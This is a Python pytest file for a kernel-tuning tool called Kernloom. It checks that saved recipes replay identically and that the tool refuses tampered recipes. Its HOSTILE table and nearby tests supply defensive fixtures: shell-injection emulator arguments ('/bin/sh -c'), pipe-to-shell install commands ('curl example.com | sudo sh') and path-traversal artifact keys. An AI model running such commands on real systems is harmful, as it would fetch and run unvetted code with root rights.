"""A recipe replays to the same artifacts and parameters, with the programs of this machine only."""

from __future__ import annotations

import copy
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from attacks import whole
from command_line import Project
from kernloom.base.errors import ConfigError, KernloomError, UnavailableError
from kernloom.base.places import share_folder
from kernloom.config.accelerator import OVERRIDDEN, OVERRIDE, PROVENANCE
from kernloom.measure.ranking import FAULTS
from kernloom.recipe.entries import refusals
from kernloom.run.plan_conditions import plan_conditions, with_plan_conditions
from kernloom.run.provenance import provenance_conditions
from kernloom.run.trials import trial_of
from parsed import points_of
from parts import without
from recipes import RecipeBench, artifact_keys

CONFIGS = share_folder() / "configs"
EVERY = sorted((CONFIGS / "workload").glob("*.yaml"))
WORKLOADS = [path.stem for path in EVERY if "\nsteps:" in path.read_text()]
"""Those that every target can compute; others submit tasks themselves."""
OF_TASKS = [path.stem for path in EVERY if path.stem not in WORKLOADS]
TARGETS = sorted(path.stem for path in (CONFIGS / "target").glob("*.yaml"))
WITH_TASKS = [
    name
    for name in TARGETS
    if "- /runtime: none" not in (CONFIGS / "target" / f"{name}.yaml").read_text()
]
RUNTIMES = ("hostgraph", "ringmap")
EMULATED = "host_counted"
"""A target with an emulator; reading its recipe does not need the emulator itself."""


@pytest.mark.parametrize("target", ["host", "riscv_bare", "a5"])
def test_every_workload_plans_the_same_from_its_recipe(bench: RecipeBench, target: str) -> None:
    names = workloads_on(target)
    try:
        plans = bench.plans(f"workload={','.join(names)}", f"target={target}", "case=small")
    except UnavailableError as error:
        without(error.message)
    entries, again = bench.replan(bench.write(f"{target}.yaml", plans))
    assert [entry.notes for entry in entries] == [()] * len(plans)
    for plan, replayed in zip(plans, again, strict=True):
        assert replayed.refusal is None
        assert replayed.params == plan.params
        assert artifact_keys(replayed) == artifact_keys(plan)


@pytest.mark.slow
@pytest.mark.parametrize("target", TARGETS)
def test_every_workload_is_verified_on_every_target_and_runs_the_same_from_its_recipe(
    sharing_project: Project, tmp_path: Path, target: str
) -> None:
    recipe = tmp_path / "all.yaml"
    names = workloads_on(target)
    words = (f"workload={','.join(names)}", f"target={target}", "case=small", *runtimes_of(target))
    done = sharing_project.json("run", "-m", *words, "measure=quick", f"recipe={recipe}")
    if done.code == 3:
        without(done.stderr)
    assert done.code == 0, done.stderr
    assert list(dict.fromkeys(trial["workload"] for trial in done.trials)) == names
    assert {(trial["status"], trial["verified"]) for trial in done.trials} == {("ok", True)}
    # Building everything again takes long.
    action = "verify" if whole() else "run"
    replayed = sharing_project.json("recipe", action, str(recipe))
    assert replayed.code == 0, replayed.stderr
    if whole():
        assert [one["status"] for one in replayed.document["levels"]] == ["reached"] * 3
    else:
        assert "note:" not in replayed.stderr
    for first, second in zip(done.trials, replayed.trials, strict=True):
        assert second["params"] == first["params"]
        assert keys(second) == keys(first)


def workloads_on(target: str) -> list[str]:
    return [*WORKLOADS, *OF_TASKS] if target in WITH_TASKS else WORKLOADS


def runtimes_of(target: str) -> list[str]:
    """The override for the task runtimes of a target, if it has any: all of them, or in the normal
    run one."""
    if target not in WITH_TASKS:
        return []
    one = RUNTIMES[WITH_TASKS.index(target) % len(RUNTIMES)]
    return [f"runtime={','.join(RUNTIMES) if whole() else one}"]


def keys(trial: dict[str, Any]) -> dict[str, str]:
    return {item["name"]: item["key"] for item in trial["artifacts"]}


def test_a_vector_length_of_ones_own_replays(bench: RecipeBench) -> None:
    plan = bench.plan("workload=axpy", "target=aarch64_sve", "case=small", "arch.vector_bits=512")
    entries, (again,) = bench.replan(bench.write("sve.yaml", [plan]))
    assert again.experiment.target.emulator == plan.experiment.target.emulator
    assert entries[0].notes == ()


@pytest.mark.parametrize(
    ("word", "key", "number"),
    [
        ("arch.hbm.bandwidth=64", "arch.hbm.bandwidth", 1),
        ("arch.topology={sips: 1, cubes: 2, pes: {vector: 2}}", "arch.topology", 4),
    ],
)
def test_a_replay_states_the_provenance_of_its_run(
    bench: RecipeBench, word: str, key: str, number: int
) -> None:
    plan = bench.plan("workload=axpy", "target=a5", "case=small", word)
    entries, (again,) = bench.replan(bench.write("provenance.yaml", [plan]))
    assert entries[0].notes == () and again.id == plan.id
    stated = provenance_conditions(again)
    assert stated == provenance_conditions(plan)
    assert stated[PROVENANCE][OVERRIDE] == number and stated[OVERRIDDEN] == [key]
    # A recipe of the replay states it too.
    _, (third,) = bench.replan(bench.write("provenance.yaml", [again]))
    assert provenance_conditions(third) == stated


def test_a_replay_states_the_injected_faults_of_its_run(bench: RecipeBench) -> None:
    words = ("workload=axpy", "target=a5", "case=small")
    plan = bench.plan(*words, "target.options.slow=noc:4")
    _, (again,) = bench.replan(bench.write("faults.yaml", [plan]))
    assert plan_conditions(plan)[FAULTS] == plan_conditions(again)[FAULTS] == "slow=noc:4"
    assert FAULTS not in plan_conditions(bench.plan(*words, "target.options.slow=noc:1"))


def test_descriptions_are_no_overrides_of_arch_data(bench: RecipeBench) -> None:
    plan = bench.plan("workload=axpy", "target=a5", "case=small", "arch.about=mine")
    assert OVERRIDDEN not in provenance_conditions(plan)


def test_a_stored_trial_states_the_provenance_of_todays_command(bench: RecipeBench) -> None:
    plan = bench.plan("workload=axpy", "target=a5", "case=small", "arch.hbm.bandwidth=128")
    same = bench.plan("workload=axpy", "target=a5", "case=small")
    assert same.id == plan.id
    had = {"limiter": "dma"} | provenance_conditions(plan)
    assert with_plan_conditions(had, same) == {"limiter": "dma"} | provenance_conditions(same)


def test_steps_without_every_transform_replay(tmp_path: Path) -> None:
    project = Project(tmp_path)
    project.write("configs/pipeline/short.yaml", SHORT)
    bench = RecipeBench(project)
    plan = bench.plan("workload=mlp", "case=small", "pipeline=short")
    _, (again,) = bench.replan(bench.write("short.yaml", [plan]))
    assert again.params == plan.params
    assert artifact_keys(again) == artifact_keys(plan)


SHORT = """\
defaults: [native, _self_]
name: short
stages:
  blocking: {in: {schedule: {ref: shapes.schedule}}}
  unrolling: {in: {schedule: {ref: blocking.schedule}}}
"""
"""The usual pipeline without fusing and packing taking part."""


def test_a_toolchain_derived_from_another_replays(tmp_path: Path) -> None:
    project = Project(tmp_path)
    text = "defaults: [gcc, _self_]\ntools: {cc: x86_64-linux-gnu-gcc}\n"
    project.write("configs/toolchain/mine.yaml", text)
    bench = RecipeBench(project)
    try:
        plan = bench.plan("workload=axpy", "case=small", "toolchain=mine")
    except UnavailableError as error:
        without(error.message)
    path = bench.write("mine.yaml", [plan])
    _, (again,) = bench.replan(path)
    assert artifact_keys(again) == artifact_keys(plan)
    # Older recipes have such a toolchain under the name of the one that it is based on.
    document = bench.document(path)
    toolchain = document["trials"][0]["config"]["toolchain"]
    assert toolchain["name"] == "mine"
    toolchain["name"] = "gcc"
    _, (older,) = bench.replan(bench.save("older.yaml", document))
    assert older.experiment.toolchain.tools == plan.experiment.toolchain.tools


@pytest.mark.parametrize(
    ("word", "says"),
    [
        (
            "toolchain.extra_flags=[-lm]",
            "toolchain.extra_flags: a recipe cannot use the flag '-lm'",
        ),
        ("toolchain.extra_flags=[-I/usr/include]", "cannot use the flag '-I/usr/include'"),
        ("toolchain.tools.cc=x86_64-linux-gnu-gcc", "toolchain.tools: differs from this machine's"),
    ],
)
def test_what_a_replay_would_refuse_is_known_when_a_recipe_is_written(
    bench: RecipeBench, word: str, says: str
) -> None:
    try:
        plan = bench.plan("workload=axpy", "case=small", word)
    except UnavailableError as error:
        without(error.message)
    trial = trial_of(plan, {}, datetime.now(UTC), status="ok", verified=True)
    (said,) = refusals([trial, trial], bench.assembly.composer)
    assert says in said
    assert "into configs/toolchain/NAME.yaml" in said
    with pytest.raises(ConfigError, match="toolchain"):
        bench.read(bench.write("refused.yaml", [plan]))


def test_a_recipe_that_replays_is_written_without_a_warning(bench: RecipeBench) -> None:
    plan = bench.plan("workload=axpy", "case=small", "toolchain.extra_flags=[-O3]")
    trial = trial_of(plan, {}, datetime.now(UTC), status="ok", verified=True)
    assert refusals([trial], bench.assembly.composer) == []


def emulated(bench: RecipeBench) -> Any:
    """The document of a recipe for an emulated target."""
    plan = bench.plan("workload=axpy", "case=small")
    document = bench.document(bench.write("host.yaml", [plan]))
    target = next(iter(points_of(bench.assembly.composer, [f"target={EMULATED}"], multirun=False)))
    document["trials"][0]["config"] |= {
        key: copy.deepcopy(target.data[key]) for key in ("target", "arch", "toolchain")
    }
    return document


HOSTILE: dict[str, Callable[[Any], None]] = {
    "a shell before the arguments": lambda emulator: emulator.update(
        args=["/bin/sh", "-c", "id > x", *emulator["args"]]
    ),
    "an argument that writes a file": lambda emulator: emulator.update(args=["-D", "/tmp/x"]),
    "another program": lambda emulator: emulator.update(program="/tmp/script"),
    "another way to install": lambda emulator: emulator.update(
        install={"debian": "curl example.com | sudo sh"}
    ),
    "another version": lambda emulator: emulator.update(minimum_version="99"),
    "another isa": lambda emulator: emulator.update(isa=""),
    "nothing lacking": lambda emulator: emulator.update(lacks=[]),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_the_emulator_is_this_machines_own(bench: RecipeBench, what: str) -> None:
    document = emulated(bench)
    ours = copy.deepcopy(document["trials"][0]["config"]["target"]["emulator"])
    HOSTILE[what](document["trials"][0]["config"]["target"]["emulator"])
    (entry,) = bench.read(bench.save("hostile.yaml", document))
    assert entry.point.data["target"]["emulator"] == ours


def test_a_recipe_without_its_emulator_gets_this_machines(bench: RecipeBench) -> None:
    document = emulated(bench)
    ours = document["trials"][0]["config"]["target"].pop("emulator")
    (entry,) = bench.read(bench.save("without.yaml", document))
    assert entry.point.data["target"]["emulator"] == ours


def test_it_is_said_that_other_arguments_are_used(bench: RecipeBench) -> None:
    document = emulated(bench)
    document["trials"][0]["config"]["target"]["emulator"]["args"] = ["-cpu", "other"]
    (entry,) = bench.read(bench.save("other.yaml", document))
    assert any("target.emulator: this machine's is used" in note for note in entry.notes)


def test_what_to_install_is_this_machines_advice(bench: RecipeBench) -> None:
    document = emulated(bench)
    document["trials"][0]["config"]["toolchain"]["install"] = {"debian": "curl x | sudo sh"}
    (entry,) = bench.read(bench.save("install.yaml", document))
    assert "curl" not in str(entry.point.data)


def test_a_target_must_be_one_of_this_machines(bench: RecipeBench) -> None:
    document = emulated(bench)
    document["trials"][0]["config"]["target"]["name"] = "elsewhere"
    with pytest.raises(ConfigError, match="unknown target 'elsewhere'"):
        bench.read(bench.save("elsewhere.yaml", document))


def test_a_stage_of_a_plug_in_must_be_one_of_this_machines(bench: RecipeBench) -> None:
    document = emulated(bench)
    stages = document["trials"][0]["config"]["pipeline"]["stages"]
    stages["own"] = {"use": "plugged_in", "command": "id"}
    with pytest.raises(ConfigError, match="'plugged_in' is none of Kernloom's own"):
        bench.read(bench.save("plug_in.yaml", document))


def test_options_of_a_device_that_is_not_known_are_this_machines(bench: RecipeBench) -> None:
    document = emulated(bench)
    document["trials"][0]["config"]["target"]["options"] = {"script": "/tmp/x"}
    (entry,) = bench.read(bench.save("options.yaml", document))
    assert "options" not in entry.point.data["target"]


def test_options_of_a_device_are_known_values(bench: RecipeBench) -> None:
    document = bench.document(bench.write("cl.yaml", [bench.plan("workload=axpy", "case=small")]))
    point = next(iter(points_of(bench.assembly.composer, ["target=opencl"], multirun=False)))
    config = document["trials"][0]["config"]
    config |= {key: copy.deepcopy(point.data[key]) for key in ("target", "arch", "toolchain")}
    config["target"]["options"] = {"platform": 0, "script": "x"}
    with pytest.raises(ConfigError, match="unknown option 'script'"):
        bench.read(bench.save("options.yaml", document))


SECTIONS = ("workload", "toolchain", "arch", "pipeline", "target", "select", "measure")


@pytest.mark.parametrize("value", [None, 3, "text", [1], {}])
@pytest.mark.parametrize("section", SECTIONS)
def test_any_section_of_a_recipe_may_be_nonsense(
    bench: RecipeBench, section: str, value: Any
) -> None:
    document = bench.document(bench.write("s.yaml", [bench.plan("workload=axpy", "case=small")]))
    document["trials"][0]["config"][section] = value
    path = bench.save("nonsense.yaml", document)
    if (section, value) == ("select", {}):
        bench.replan(path)
        return
    with pytest.raises(ConfigError):
        bench.replan(path)


NO_KEYS = ("/proc/self/cwd/art", "../kernels/x", 5, None, "A" * 32, "a" * 31, "a" * 33, ["a" * 32])


@pytest.mark.parametrize("key", NO_KEYS)
def test_an_expected_artifact_is_named_by_a_key_and_not_by_a_path(
    bench: RecipeBench, key: Any
) -> None:
    document = bench.document(bench.write("a.yaml", [bench.plan("workload=axpy", "case=small")]))
    document["trials"][0]["expected"]["artifacts"] = {"axpy": key}
    with pytest.raises(ConfigError, match="is not the key of an artifact"):
        bench.read(bench.save("key.yaml", document))


def test_parameters_that_a_recipe_gives_to_a_transform_are_of_the_space(bench: RecipeBench) -> None:
    document = bench.document(bench.write("p.yaml", [bench.plan("workload=axpy", "case=small")]))
    stage = document["trials"][0]["config"]["pipeline"]["stages"]["unrolling"]
    refused = {
        "vectors": "unroll.vectors=x; y is not in the space",
        "x; y": "has no tunable 'x; y' for 'unroll'",
    }
    for tunable, said in refused.items():
        stage["in"]["params"] = {"add": {tunable: "x; y"}}
        with pytest.raises(KernloomError, match=said):
            bench.replan(bench.save("params.yaml", document))
    stage["in"]["params"] = {"add": {"vectors": 4.0}}
    _, (plan,) = bench.replan(bench.save("params.yaml", document))
    assert "unroll: vectors=4\n" in plan.steps[0].artifact.files[plan.steps[0].artifact.main]


FLAGS = {
    "-ffp-exception-behavior=strict": True,
    "-fffp-exception-behavior=strict": False,
    "-DBLOCK=32": True,
    "-DBLOCK": True,
    "-Dmemcpy=system": False,
    "-Dexpf=0x1p3": True,
}


@pytest.mark.parametrize("flag", FLAGS)
def test_flags_of_a_recipe(bench: RecipeBench, flag: str) -> None:
    document = bench.document(bench.write("f.yaml", [bench.plan("workload=axpy", "case=small")]))
    document["trials"][0]["config"]["toolchain"]["extra_flags"] = [flag]
    path = bench.save("flags.yaml", document)
    if FLAGS[flag]:
        (entry,) = bench.read(path)
        assert entry.point.data["toolchain"]["extra_flags"] == [flag]
    else:
        with pytest.raises(ConfigError, match="cannot use the flag"):
            bench.read(path)


ALLOWED = {
    "an unknown workload": ("stranger", ["clock"], True),
    "a workload that allows nothing": ("axpy", ["printf"], True),
    "all of it": ("axpy", ["everything"], True),
    "more than ours": ("mine", ["printf", "clock"], True),
    "no list": ("mine", "printf", True),
    "what ours allows": ("mine", ["printf"], False),
    "less than ours": ("mine", [], False),
}


@pytest.mark.parametrize("case", ALLOWED)
def test_a_recipe_allows_its_kernels_what_a_workload_of_this_machine_does(
    project: Project, case: str
) -> None:
    name, allow, refused = ALLOWED[case]
    axpy = (CONFIGS / "workload" / "axpy.yaml").read_text()
    mine = f"{axpy.replace('name: axpy', 'name: mine')}\nallow: [printf, puts]\n"
    project.write("configs/workload/mine.yaml", mine)
    bench = RecipeBench(project)
    document = bench.document(bench.write("f.yaml", [bench.plan("workload=mine", "case=small")]))
    document["trials"][0]["config"]["workload"] |= {"name": name, "allow": allow}
    path = bench.save("allows.yaml", document)
    if refused:
        with pytest.raises(ConfigError, match=r"cannot allow its own kernels to import"):
            bench.read(path)
    else:
        (entry,) = bench.read(path)
        assert entry.point.data["workload"]["allow"] == allow


def edited(document: Any, change: Callable[[Any], None]) -> Any:
    document = copy.deepcopy(document)
    change(document)
    return document


EDITS: dict[str, Callable[[Any], Any]] = {
    "a size": lambda d: d["trials"][0]["config"]["workload"]["sizes"].update(N=77),
    "a number": lambda d: d["trials"][0]["config"].update(seed=5),
    "a description": lambda d: d["trials"][0]["config"]["workload"].update(about="other"),
    "what is expected": lambda d: d["trials"][0]["expected"].update(id="0" * 16),
    "a point": lambda d: d["trials"][0].update(point={"seed": 1}),
    "the order": lambda d: d["trials"].reverse(),
    "a trial less": lambda d: d["trials"].pop(),
    "the version": lambda d: d.update(kernloom="9.9.9"),
    "a digest": lambda d: d["trials"][0].update(digest="0" * 32),
    "no digest of the file": lambda d: d.pop("digest"),
    "no digest of a trial": lambda d: d["trials"][0].pop("digest"),
}


@pytest.mark.parametrize("what", EDITS)
def test_an_edited_recipe_runs_and_says_so(bench: RecipeBench, what: str) -> None:
    plans = [bench.plan("workload=axpy", "case=small", f"seed={seed}") for seed in (0, 1)]
    path = bench.write("edits.yaml", plans)
    assert [entry.notes for entry in bench.read(path)] == [(), ()]
    document = edited(bench.document(path), EDITS[what])
    entries, _ = bench.replan(bench.save("edited.yaml", document))
    notes = [note for entry in entries for note in entry.notes]
    assert any("edited" in note for note in notes), notes


@pytest.mark.parametrize("key", ["config.hooks", "expected.hooks", "hooks", "digest_"])
def test_an_unknown_key_of_a_recipe_is_named(bench: RecipeBench, key: str) -> None:
    document = bench.document(bench.write("k.yaml", [bench.plan("workload=axpy", "case=small")]))
    *folders, last = key.split(".")
    place = document["trials"][0]
    for name in folders:
        place = place[name]
    place[last] = 1
    with pytest.raises(ConfigError, match=f"unknown key '{last}'"):
        bench.read(bench.save("key.yaml", document))


def test_an_early_recipe_of_fused_steps_replays(bench: RecipeBench) -> None:
    """Recipes used to ask nobody but `fixed`, and had no digest."""
    plan = bench.plan("workload=mlp", "case=small")
    document = bench.document(bench.write("early.yaml", [plan]))
    config = document["trials"][0]["config"]
    config["select"]["providers"] = ["fixed"]
    config["pipeline"]["stages"]["choice"]["providers"] = ["fixed"]
    _, (again,) = bench.replan(bench.save("early.yaml", document))
    assert again.params == plan.params
    assert artifact_keys(again) == artifact_keys(plan)


def test_a_recipe_from_before_peers_had_their_name_replays(bench: RecipeBench) -> None:
    plan = bench.plan("workload=axpy", "case=small", "measure.peers=[numpy]")
    document = bench.document(bench.write("early.yaml", [plan]))
    measure = document["trials"][0]["config"]["measure"]
    measure["baselines"] = measure.pop("peers")
    _, (again,) = bench.replan(bench.save("early.yaml", document))
    assert list(again.peers) == ["numpy"]
    assert again.id == plan.id
